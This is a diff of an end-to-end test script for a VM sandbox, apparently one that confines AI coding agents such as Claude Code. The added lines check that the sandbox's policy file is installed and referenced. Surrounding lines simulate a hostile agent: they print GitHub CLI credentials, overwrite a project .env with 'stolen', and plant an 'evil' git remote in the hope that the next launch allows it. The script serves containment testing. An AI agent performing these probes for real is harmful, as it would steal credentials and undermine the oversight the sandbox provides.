@@ -90,6 +90,7 @@ echo "ghhosts=$(tr '\n' '|' <$HOME/.config/gh/hosts.yml)"
 echo written-by-agent >/proj/from-guest
 echo "projls=$(ls -A /proj /proj/certs | tr '\n' ' ')"
 sed 's/^/policy: /' /etc/kvmbox/POLICY.md
+echo "memory-points=$(grep -c /etc/kvmbox/POLICY.md $HOME/.claude/CLAUDE.md)"
 echo stolen >/proj/.env 2>/dev/null && echo "env-overwritten"
 # a hostile agent adds a remote, hoping the next launch allows it
 [ -f /proj/.git/config ] && ! grep -q evil /proj/.git/config &&
@@ -143,6 +144,9 @@ e2e_check_has claude "the guest has /etc/kvmbox/POLICY.md, the sandbox's rules f
 	'^policy: # The sandbox you run in (kvmbox)'
 e2e_check_has claude "naming the repositories GitHub writes may go to" '^policy: - GitHub: writes (push, API) are allowed to \(ada/engine\|no repository\) only'
 e2e_check_has claude "and what a refused request looks like" '^policy: .*gets a 403 whose'
+e2e_check_has claude "the network line names the profile (permissive by default)" '^policy: - Network: the public internet'
+e2e_check_has claude "Claude Code's instructions file points at it" -x 'memory-points=1'
+e2e_check_has passthrough "once, however many launches share the state" -x 'memory-points=1'
 e2e_check_has claude "the per-launch CA is installed" -x 'ca-installed'
 e2e_check_has claude "Node.js is pointed at it" '^NODE_EXTRA_CA_CERTS=/.'
 e2e_check_has claude "and Rust/Go clients at the bundle" -x 'SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt'
